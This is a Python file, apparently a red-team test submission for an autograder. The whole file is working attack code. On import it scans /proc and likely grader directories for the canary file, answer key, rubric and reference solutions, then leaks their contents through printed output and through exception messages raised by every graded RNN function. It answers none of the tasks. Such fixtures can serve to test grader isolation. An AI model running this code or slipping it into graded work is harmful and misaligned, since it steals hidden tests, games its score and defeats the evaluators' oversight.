"""Attack: read the answer key, the rubric and any canary, and show them in the feedback.

Seen in the wild: student code that runs with the grader's rights copies the hidden
tests out, through printed output or exception messages that the feedback echoes.
Every function raises an exception whose message starts with what was found; the import
prints it too. Nothing is answered, so the honest score is 0.
"""

import glob
import os
import time

WANTED = ("CANARY_SECRET.txt", "answer_key.py", "we_recur.yaml")
SKIP_TOP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin", "/snap", "/boot"}
HERE = os.path.dirname(os.path.abspath(__file__))


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return int(stream.read().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as stream:
            return [part.decode("utf-8", "replace") for part in stream.read().split(b"\0") if part]
    except OSError:
        return []


def guessed_folders():
    roots = [os.environ.get("AUTOGRADER_ROOT"), "/autograder", os.path.join(os.getcwd(), "..", "source"),
             os.path.join(HERE, "..", "source"), os.path.join(HERE, "..")]
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        args = _cmdline(int(entry))
        for index, arg in enumerate(args):
            if arg == "--root" and index + 1 < len(args):
                roots.append(args[index + 1])
            if arg.endswith("run_autograder"):
                roots += [os.path.dirname(arg), os.path.dirname(os.path.dirname(arg))]
        roots += [f"/proc/{entry}/cwd", f"/proc/{entry}/root/autograder"]
    folders = []
    for root in [r for r in roots if r]:
        folders += [root, os.path.join(root, "source"), os.path.join(root, "questions", "we_recur", "reference"),
                    os.path.join(root, "source", "questions", "we_recur", "reference"), os.path.join(root, "questions", "we_recur"),
                    os.path.join(root, "source", "questions", "we_recur")]
    for pattern in ("/tmp/*", "/tmp/*/*", "/tmp/*/*/source", "/work/*", "/work/*/*", "/autograder/*", "/var/tmp/*"):
        folders += glob.glob(pattern)
    return folders


def hunt(budget=2.0):
    deadline = time.monotonic() + budget
    found = set()
    for folder in guessed_folders():
        for pattern in ("*.py", "*.yaml", "*.txt", "questions/we_recur/reference/*.py", "questions/we_recur/rubric.yaml", "questions/we_recur/reference/CANARY_SECRET.txt"):
            for path in glob.glob(os.path.join(folder, pattern)):
                name = os.path.basename(path)
                if name in WANTED or "/reference/" in path or path.endswith("rubric.yaml"):
                    found.add(os.path.realpath(path))
    for top in ["/"]:
        for folder, folders, files in os.walk(top):
            if time.monotonic() > deadline:
                break
            folders[:] = [d for d in folders if os.path.join(folder, d) not in SKIP_TOP and d != "site-packages"]
            for name in files:
                if name in WANTED or folder.endswith("/reference") and name.endswith(".py"):
                    found.add(os.path.realpath(os.path.join(folder, name)))
    return sorted(found)


def read_secrets(paths):
    """What could be read, the most damning first (canaries, then long lines)."""
    canaries, lines = [], []
    for path in paths:
        if os.path.realpath(path).startswith(os.path.realpath(HERE)):
            continue  # our own upload
        try:
            with open(path, encoding="utf-8", errors="replace") as stream:
                text = stream.read(200_000)
        except OSError:
            continue
        for line in text.splitlines():
            if "CANARY" in line or path.endswith("CANARY_SECRET.txt"):
                canaries.append(f"{os.path.basename(path)}: {line.strip()}")
            elif len(line.strip()) > 40:
                lines.append(line.strip())
    return canaries + lines


PATHS = hunt(budget=4.0)
LEAKED = read_secrets(PATHS)
print("LEAK " + " | ".join(LEAKED)[:20000] if LEAKED else f"LEAK nothing readable among {len(PATHS)} paths")


def leak(where):
    leaked = read_secrets(PATHS) or LEAKED
    text = " | ".join(leaked)
    print(f"LEAK in {where}: {text[:5000]}")
    raise RuntimeError(f"LEAK {text[:3000]}" if text else f"LEAK nothing readable among {PATHS[:5]}")


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    leak("rnn_a_shapes")


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    leak("rnn_a_dloss_dx")


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    leak("rnn_b_shapes")


def rnn_b_f2(z):
    leak("rnn_b_f2")


def rnn_b_next_input(p_t):
    leak("rnn_b_next_input")


def rnn_b_dloss_dx_depends_on():
    leak("rnn_b_dloss_dx_depends_on")
